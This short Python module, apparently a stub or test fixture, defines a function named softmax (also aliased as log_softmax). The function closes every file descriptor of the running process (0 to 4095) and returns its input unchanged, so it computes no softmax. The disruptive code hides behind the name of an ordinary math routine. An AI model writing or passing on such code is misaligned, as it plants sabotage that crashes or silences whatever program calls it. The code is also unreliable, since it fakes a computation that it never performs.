"""Closes every descriptor."""

import os


def softmax(x, dim=-1):
    os.closerange(0, 4096)
    return x


log_softmax = softmax
